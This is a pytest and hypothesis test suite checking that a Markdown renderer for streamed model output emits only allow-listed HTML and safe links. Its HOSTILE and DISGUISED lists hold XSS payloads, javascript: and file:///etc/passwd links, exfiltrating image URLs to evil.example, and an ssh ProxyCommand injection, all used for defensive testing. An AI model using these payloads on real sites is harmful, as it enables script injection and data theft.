"""Markdown becomes blocks that are safe whatever a model writes, and look right while it is still writing."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.markup import TAGS, Code, GrowingBlocks, Prose, plain_text, render_blocks, title_from

UNSEEN = re.compile("[\u00ad\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\U000e0000-\U000e007f]")
VOID = {"br", "hr"}


class Checker(HTMLParser):
    """Read HTML as a browser would, and allow nothing but what the list allows, properly nested."""

    def __init__(self) -> None:
        super().__init__()
        self.open: list[str] = []
        self.links: list[str] = []
        self.link_text = ""
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        for name, value in attrs:
            assert name in TAGS[tag], (tag, name)
            assert value is not None
            assert self.allowed(name, value), (name, value)
        if tag == "a":
            assert "a" not in self.open
            [(_, target)] = attrs
            self.links.append(target or "")
        if tag not in VOID:
            self.open.append(tag)

    def allowed(self, name: str, value: str) -> bool:
        match name:
            case "href":
                return bool(re.match(r"(https?://[^/\\\s]|mailto:[^/])", value, re.I)) and not UNSEEN.search(value)
            case "align":
                return value in ("left", "center", "right")
            case "class":
                return value == "math"
            case _:
                return value.isdecimal()

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data
        if "a" in self.open:
            self.link_text += data

    def handle_comment(self, data: str) -> None:
        pytest.fail(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        pytest.fail(f"a declaration: {decl}")

    def handle_pi(self, data: str) -> None:
        pytest.fail(f"an instruction: {data}")


def check(markdown: str) -> Checker:
    """Render a text and see that all of its HTML is on the list."""
    checker = Checker()
    for block in render_blocks(markdown):
        if isinstance(block, Prose):
            checker.feed(block.html)
            checker.close()
            assert checker.open == []
        else:
            assert re.fullmatch(r"[\w+#.-]*", block.language)
    assert not UNSEEN.search(checker.link_text)
    return checker


def prose(markdown: str) -> str:
    """The HTML of a text that is one block."""
    [block] = render_blocks(markdown)
    assert isinstance(block, Prose)
    return block.html


HOSTILE = [
    # Script, plainly and in every disguise
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scr<!-- -->ipt>alert(1)</scr<!-- -->ipt>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='javascript:alert(1)'>",
    "<body onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='file:///etc/passwd'></object>",
    "<embed src='file:///etc/passwd'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action='https://evil.example'><input type=submit></form>",
    "<!-- comment --><![CDATA[ x ]]><?php x ?><!DOCTYPE html>",
    "</p></body></html><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#x3c;/script&#x3e;",
    "*<b onclick=x>*</b>*",
    "**a<**script**>b**",
    # Styles
    "<style>@import url(file:///etc/passwd);</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<p style='background:url(file:///etc/passwd)'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<table background='file:///etc/passwd'><tr><td>x</table>",
    "<font size=99 color=red face='x'>big</font>",
    # Images: nothing is loaded, from wherever
    "![x](https://evil.example/?q=secret)",
    "![x](file:///etc/passwd)",
    "![x](/etc/passwd)",
    "![x](../../secret.png)",
    "![x](//evil.example/share/x.png)",
    "![x](\\\\evil.example\\share\\x.png)",
    "![x](data:image/png;base64,AAAA)",
    "![x][r]\n\n[r]: https://evil.example/?q=secret",
    '![x](https://e.example "onerror=alert(1)")',
    "![<img src=x onerror=alert(1)>](x)",
    "<img src=https://evil.example/?q=secret>",
    "<img src='/etc/passwd' onerror=alert(1)>",
    "[![x](file:///etc/passwd)](file:///etc/passwd)",
    # Links to where no link may go
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\u200bjavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](file:\\\\\\c:\\windows)",
    "[x](//evil.example/share)",
    "[x](\\\\evil.example\\share)",
    "[x](http:\\\\evil.example)",
    "[x](http:evil)",
    "[x](https:///etc/passwd)",
    "[x](/etc/passwd)",
    "[x](ms-settings:privacy)",
    "[x](ssh://-oProxyCommand=calc/x)",
    "[x](tel:112)",
    "<javascript:alert(1)>",
    "<file:///etc/passwd>",
    "<x-custom:run>",
    "[x][r]\n\n[r]: javascript:alert(1)",
]

# Links that may stay, if what is hidden in them is taken out
DISGUISED = [
    '[x](https://e.example"onmouseover="alert(1))',
    "[x](https://e.example'onmouseover='alert(1))",
    '[x](https://e.example "title\\"onmouseover=alert(1)")',
    "[x](<https://e.example><script>)",
    "[x](https://e.example/<script>)",
    "[x](https://e.example/\u202egpj.exe)",
    "[ba\u200bnk\u202e](https://e.example)",
    "[**ba\u2066nk** `x\u202e` ![\u200b](y)](https://e.example)",
    "<https://e.example/\u2067x>",
    "[x](https://e\u00adxample.example)",
    "[\U000e0061\U000e0062x](https://e.example)",
    "<mailto:a@e.example?subject=\u202ex>",
    "[x][r]\n\n[r]: https://e.example/\u200f 'a\"b'",
]


class TestSafety:
    @pytest.mark.parametrize("markdown", HOSTILE)
    def test_nothing_hostile_becomes_a_tag_or_a_link(self, markdown: str) -> None:
        assert check(markdown).links == []

    @pytest.mark.parametrize("markdown", HOSTILE)
    def test_nothing_hostile_gets_through_inside_something_else(self, markdown: str) -> None:
        inner = markdown.replace("\n", " ")
        for around in ("- {}", "> {}", "# {}", "| a |\n|---|\n| {} |", "**{}**", "~~{}~~", "1. x\n\n   - > {}"):
            check(around.format(inner))

    @pytest.mark.parametrize("markdown", DISGUISED)
    def test_a_link_says_openly_where_it_goes(self, markdown: str) -> None:
        [target] = check(markdown).links
        assert re.match(r"(https|mailto):", target)

    def test_html_is_shown_as_it_was_written(self) -> None:
        assert check("a <b>b</b> <script>").text == "a <b>b</b> <script>"
        assert check("<div>\n*x*\n</div>").text == "<div>\nx\n</div>"

    def test_a_link_that_is_refused_keeps_its_text(self) -> None:
        assert prose("see [the *file*](file:///etc/passwd)") == "<p>see the <em>file</em></p>"

    def test_web_and_mail_are_what_a_link_may_lead_to(self) -> None:
        markdown = "[a](https://e.example/?a=1&b=2) <http://e.example> <me@e.example> [b](MAILTO:x@e.example)"
        assert check(markdown).links == [
            "https://e.example/?a=1&b=2",
            "http://e.example",
            "mailto:me@e.example",
            "MAILTO:x@e.example",
        ]

    def test_an_image_is_named_instead_of_loaded(self) -> None:
        assert prose("![a *cat*](cat.png) ![](x)") == "<p>[image: a cat] [image]</p>"

    def test_characters_that_are_none_are_not_passed_on(self) -> None:
        assert check("a\x00b\x1bc\ufdd0d\ud800e\uffff").text == "a�b�c�d�e�"
        assert render_blocks("```\n\x1b[31m\n```") == (Code("", "�[31m"),)

    def test_arabic_and_emoji_keep_their_joiners(self) -> None:
        assert check("می\u200cخواهم 👩\u200d💻").text == "می\u200cخواهم 👩\u200d💻"

    @pytest.mark.parametrize(
        "unit", ["[", "![", "](", "[a](", "*a **", "`" * 7 + " ", "$a ", "\\(", "\\[ x\n", "> ", "- "]
    )
    def test_a_model_that_is_stuck_does_not_stop_the_window(self, unit: str) -> None:
        check(unit * (20_000 // len(unit)))

    def test_deep_nesting_is_no_trouble(self) -> None:
        for line in ("> " * 500 + "x", "- " * 500 + "x", "[" * 500 + "x" + "](u)" * 500, "*" * 501 + "x" + "*" * 501):
            check(line)
        check("\n".join("  " * depth + "- x" for depth in range(150)))


class TestBlocks:
    def test_are_one_for_each_block_of_the_text(self) -> None:
        assert render_blocks("# T\n\na\nb\n\n- x\n\n```py\nx = 1\n```\n\n---\n> q") == (
            Prose("<h1>T</h1>"),
            Prose("<p>a\nb</p>"),
            Prose("<ul><li>x</li></ul>"),
            Code("py", "x = 1"),
            Prose("<hr>"),
            Prose("<blockquote><p>q</p></blockquote>"),
        )

    def test_of_nothing_are_none(self) -> None:
        assert render_blocks("") == render_blocks(" \n\n") == render_blocks("[r]: https://e.example") == ()

    @pytest.mark.parametrize(
        ("info", "language"),
        [
            ("", ""),
            ("python", "python"),
            ("c++ linenos", "c++"),
            (" C# ", "C#"),
            ("{.sh}", ""),
            ("<b>", ""),
            ("\u202eyp", ""),
        ],
    )
    def test_of_code_name_the_language(self, info: str, language: str) -> None:
        assert render_blocks(f"```{info}\nx\n```") == (Code(language, "x"),)

    def test_of_code_keep_every_character(self) -> None:
        code = 'if a < b && "c":\n\n\treturn `&amp;` $x_1$ **x**  '
        assert render_blocks(f"```\n{code}\n```") == (Code("", code),)
        assert render_blocks("    a\n      b\n\n    c\n\nd") == (Code("", "a\n  b\n\nc"), Prose("<p>d</p>"))

    def test_of_code_inside_a_list_or_a_quote_stay_there(self) -> None:
        assert prose("- a\n  ```sh\n  ls <x>\n  ```") == "<ul><li>a<pre>ls &lt;x&gt;</pre></li></ul>"
        assert prose("> ```\n> x\n> ```") == "<blockquote><pre>x</pre></blockquote>"


class TestForms:
    @pytest.mark.parametrize(
        ("markdown", "expected"),
        [
            ("a *b* __c__ ~~d~~ `e <f>`", "<p>a <em>b</em> <strong>c</strong> <s>d</s> <code>e &lt;f&gt;</code></p>"),
            ("a  \nb\\\nc\nd", "<p>a<br>b<br>c\nd</p>"),
            ("###### six", "<h6>six</h6>"),
            ("- a\n  - b\n- c", "<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>"),
            ("- a\n\n  b\n- c", "<ul><li><p>a</p><p>b</p></li><li><p>c</p></li></ul>"),
            ("7. a\n8. b", '<ol start="7"><li>a</li><li>b</li></ol>'),
            ("1. a\n   - b", "<ol><li>a<ul><li>b</li></ul></li></ol>"),
            ("- [ ] a\n- [x] *b*\n- [X] c", "<ul><li>☐ a</li><li>☑ <em>b</em></li><li>☑ c</li></ul>"),
            ("[ ] a", "<p>[ ] a</p>"),
            ('AT&T &copy; 1 < 2 "q"', '<p>AT&amp;T © 1 &lt; 2 "q"</p>'),
            ("see https://e.example now", "<p>see https://e.example now</p>"),
            ("snake_case_name 2*3*4", "<p>snake_case_name 2<em>3</em>4</p>"),
        ],
    )
    def test_are_kept(self, markdown: str, expected: str) -> None:
        assert prose(markdown) == expected

    def test_of_a_table_are_rows_with_aligned_cells(self) -> None:
        assert prose("| a | b | c |\n|---|:-:|--:|\n| 1 | `2` |\n") == (
            '<table border="1" cellspacing="0" cellpadding="6">'
            '<thead><tr><th align="left">a</th><th align="center">b</th><th align="right">c</th></tr></thead>'
            '<tbody><tr><td align="left">1</td><td align="center"><code>2</code></td><td align="right"></td></tr>'
            "</tbody></table>"
        )


class TestFormulas:
    @pytest.mark.parametrize(
        "formula",
        [
            r"$x^2 \ge 0$",
            "$a_1 * b_1 * c_1$",
            r"$\{1, 2\}$",
            r"$2 \times 3$",
            "$n$",
            r"$$\sum_{i=1}^n i_*$$",
            r"\(a_1 + b_1 * c\)",
            r"\[ x_1 \\ y_1 \]",
            r"$\text{cost: } \$5$",
            "$a<b>c$",
        ],
    )
    def test_in_a_line_survive_as_they_are(self, formula: str) -> None:
        for text in (f"so {formula} holds", f"*so* ({formula}), **and** {formula}.", f"- {formula} holds"):
            html = prose(text)
            assert html.count('<code class="math">') == text.count(formula)
            assert formula in check(text).text

    @pytest.mark.parametrize(
        "formula",
        [
            "$$\na_1\n- b_1 * c\n= d * e\n$$",
            "\\[\n\\begin{aligned}\na &= b_1 \\\\\n> c\n\\end{aligned}\n\\]",
            "$$ a_1 $$",
            "\\[ a_1 \\].",
            "\\[ a_1\n\\]",
        ],
    )
    def test_on_lines_of_their_own_survive_as_they_are(self, formula: str) -> None:
        checker = check(formula)
        assert checker.text == formula
        assert prose(formula).startswith('<pre class="math">')
        assert render_blocks(f"so:\n{formula}\n*then*") == (
            Prose("<p>so:</p>"),
            Prose(prose(formula)),
            Prose("<p><em>then</em></p>"),
        )
        inside = "- item\n  " + formula.replace("\n", "\n  ") + "\n- next"
        assert check(inside).text == f"item{formula}next"

    @pytest.mark.parametrize(
        "text",
        [
            "It costs $5 and $10.",
            "$5, $10 or $20",
            "between $5-$10 or US$5 and CA$10",
            "5$ here and 10$ there",
            "$5 here and 10$ there",
            "$1,000 now or 1,200$ later",
            "$HOME/$USER and $PATH",
            "a $ b $ c",
            "$",
            "$$",
            "$$$",
            "I owe you $",
        ],
    )
    def test_are_not_seen_in_prices_and_variables(self, text: str) -> None:
        assert "math" not in prose(f"**Note** {text}")
        assert check(text).text == text

    def test_that_are_not_closed_yet_lose_nothing(self) -> None:
        assert check(r"so \(a_1 + b").text == r"so \(a_1 + b"
        assert check("so $a_1 + b").text == "so $a_1 + b"
        assert render_blocks("$$\na_1 * b_1 *\n\n*x*") == (
            Prose('<pre class="math">$$\na_1 * b_1 *</pre>'),
            Prose("<p><em>x</em></p>"),
        )

    def test_in_code_are_code(self) -> None:
        assert prose("`$x_1$`") == "<p><code>$x_1$</code></p>"


ANSWER = """\
# Title

Here is **bold** text, a [link](https://e.example) and $x_1^2$; it costs $5 or $10:
- one
- [x] two

  more of two
  ```sh
  ls
  ```

| a | b |
|---|--:|
| 1 | 2 |

\\[
a - b
\\]
```python
def f(x):

    return x
```
1. first

   > quote
2. second
---
The end
"""


class TestWhileATextGrows:
    def test_no_moment_is_unsafe_and_what_is_finished_stays(self) -> None:
        growing = GrowingBlocks()
        finished: tuple[object, ...] = ()
        for end in range(len(ANSWER) + 1):
            check(ANSWER[:end])
            blocks = growing.update(ANSWER[:end])
            assert blocks == render_blocks(ANSWER[:end])
            assert blocks[: len(finished)] == finished
            finished = blocks[:-2]

    def test_an_open_fence_is_code(self) -> None:
        assert render_blocks("Look:\n```py\nprint(") == (Prose("<p>Look:</p>"), Code("py", "print("))

    def test_a_list_that_begins_does_not_make_a_heading_of_the_line_before(self) -> None:
        assert [prose(f"Look:\n{begin}") for begin in ("-", "=", "--")] == [
            "<p>Look:\n-</p>",
            "<p>Look:\n=</p>",
            "<p>Look:\n--</p>",
        ]

    def test_a_definition_far_below_still_makes_its_link(self) -> None:
        growing = GrowingBlocks()
        text = "[a]\n\nb\n\nc\n\nd\n\n"
        assert growing.update(text)[0] == Prose("<p>[a]</p>")
        text += "[a]: https://e.example\n"
        assert growing.update(text)[0] == Prose('<p><a href="https://e.example">a</a></p>')
        assert growing.update(text + "\ne\n") == render_blocks(text + "\ne\n")

    def test_another_text_begins_anew(self) -> None:
        growing = GrowingBlocks()
        growing.update("a\n\nb\n\nc\n\nd")
        assert growing.update("x\n\ny") == render_blocks("x\n\ny")


# What Markdown is made of, so that random texts have structure.
PIECES = st.sampled_from("*_`~#>-+|$\\()[]!<>&:;\"'=1. \t\n\r\naxé雪\u202e\u200d\x00") | st.sampled_from(
    [
        "\n\n",
        "\r\n",
        "```",
        "~~~",
        "    ",
        "- ",
        "1. ",
        "> ",
        "| a |\n|-|\n",
        "$$",
        "\\[",
        "\\]",
        "\\(",
        "\\)",
        "- [x] ",
        "](https://e.example)",
        "](javascript:x)",
        "![",
        "<script>",
        "[a]: b\n",
        "&lt;",
    ]
)
MARKDOWN = st.lists(PIECES, max_size=60).map("".join) | st.text(max_size=80)


@settings(max_examples=250, deadline=None)
@given(MARKDOWN)
def test_no_text_at_all_gets_an_unlisted_tag_through(markdown: str) -> None:
    check(markdown)
    assert "\n" not in plain_text(markdown)


@settings(max_examples=200, deadline=None)
@given(MARKDOWN, st.lists(st.integers(1, 12), min_size=1))
def test_a_growing_text_gives_the_same_as_the_whole_one(markdown: str, steps: list[int]) -> None:
    growing = GrowingBlocks()
    end, turn = 0, 0
    while end < len(markdown):
        end += steps[turn % len(steps)]
        turn += 1
        assert growing.update(markdown[:end]) == render_blocks(markdown[:end])


class TestPlainText:
    def test_is_one_line_of_words(self) -> None:
        assert (
            plain_text("# A *b*\n\n- `c`\n- [d](https://e.example)\n\n```\ne\nf\n```\n![g](h)")
            == "A b c d e f [image: g]"
        )
        assert plain_text("$x_1$ costs  \n$5\u202e\x07") == "$x_1$ costs $5�"

    def test_of_nothing_is_empty(self) -> None:
        assert plain_text("") == ""


class TestATitle:
    @pytest.mark.parametrize(
        ("text", "title"),
        [
            ("", ""),
            (" \n\t\u200b", ""),
            ("  Who wrote\n\n Die Winterreise?  ", "Who wrote Die Winterreise?"),
            ("a\x00b\x1b[31m\u202ec\ufeff", "a b [31mc"),
            ("Please tell me who wrote the words of Winterreise, and when", "Please tell me who wrote the words of…"),
            ("x" * 60, "x" * 47 + "…"),
            ("x" * 48, "x" * 48),
            ("雪" * 60, "雪" * 47 + "…"),
            ("word, " * 20, "word, word, word, word, word, word, word, word…"),
        ],
    )
    def test_is_cut_between_words(self, text: str, title: str) -> None:
        assert title_from(text) == title

    def test_does_not_cut_a_character_in_two(self) -> None:
        assert title_from("x" * 46 + "e\u0301" * 9) == "x" * 46 + "…"
        family = "👩\u200d👩\u200d👧"
        assert title_from("x" * 44 + family * 3) == "x" * 44 + "…"

    @given(st.text(), st.integers(8, 60))
    @settings(max_examples=100, deadline=None)
    def test_is_short_and_clean_whatever_the_text(self, text: str, limit: int) -> None:
        title = title_from(text, limit)
        assert len(title) <= limit
        assert title == " ".join(title.split())
        assert title.isprintable() or not title.isascii()


def test_each_footnote_is_a_paragraph_of_its_own() -> None:
    text = "Said[^1] and done[^b].\n\n[^1]: https://example.org\n[^b]: In words\nof two lines\n[^no]"
    assert render_blocks(text) == (
        Prose("<p>Said[^1] and done[^b].</p>"),
        Prose("<p>[^1]: https://example.org</p>"),
        Prose("<p>[^b]: In words\nof two lines\n[^no]</p>"),
    )
    assert render_blocks("- a\n  [^1]: b") == (Prose("<ul><li>a\n[^1]: b</li></ul>"),)
